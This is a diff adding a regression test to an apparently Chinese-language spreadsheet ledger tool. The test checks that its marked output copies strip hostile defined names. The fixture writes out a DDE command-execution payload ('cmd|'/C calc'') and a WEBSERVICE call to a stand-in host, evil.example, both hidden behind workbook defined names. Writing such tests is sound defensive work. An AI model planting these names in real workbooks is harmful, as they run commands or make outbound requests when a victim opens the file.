@@ -131,6 +131,40 @@ def test_text_starting_with_a_formula_sign_stays_text_in_every_output(tmp_path):
     assert any(c.value == INJECTIONS["问题"] and c.data_type == "s" for c in shown), shown
 
 
+def test_a_dde_payload_hidden_in_a_defined_name_is_dropped_from_the_copies(tmp_path):
+    """``zz = cmd|'/C calc'!A0`` as a defined name, a cell ``=zz``: the cell's formula is not
+    live on its face, so both marked copies kept name and cell, and Excel ran the DDE request
+    when a copy was opened (its calculation on load). Names that are live go."""
+    path = base_ledger(tmp_path / "名称.xlsx")
+    names = (
+        b"<definedNames><definedName name=\"zz\">cmd|'/C calc'!A0</definedName>"
+        b'<definedName name="ww">WEBSERVICE("http://evil.example/")</definedName>'
+        + '<definedName name="ok">整改台账!$A$1:$M$4</definedName></definedNames>'.encode()
+    )
+
+    def cells(xml: bytes) -> bytes:
+        end = xml.index(b"</row>", xml.index(b'<row r="2"'))
+        return xml[:end] + b'<c r="N2"><f>zz</f><v>0</v></c><c r="O2" t="str"><f>ww</f><v>x</v></c>' + xml[end:]  # fmt: skip
+
+    rewrite(
+        path,
+        {
+            "xl/workbook.xml": lambda x: x.replace(b"<calcPr", names + b"<calcPr", 1),
+            LEDGER_PART: cells,
+        },
+    )
+    for args, out in (
+        (["check", str(path), "--mark", str(tmp_path / "标注.xlsx"), *DAY], tmp_path / "标注.xlsx"),
+        (["diff", str(path), str(path), "--mark", str(tmp_path / "对比.xlsx"), *DAY], tmp_path / "对比.xlsx"),
+    ):  # fmt: skip
+        r = run_limited(args)
+        assert r["code"] == 0 and out.exists(), clean(r)
+        with zipfile.ZipFile(out) as z:
+            workbook = z.read("xl/workbook.xml")
+        assert b"cmd|" not in workbook and b"WEBSERVICE" not in workbook, workbook
+        assert b'name="ok"' in workbook  # an ordinary name stays
+
+
 # ---------------------------------------------------------------------------------------------
 # Numbers in date-formatted cells
 
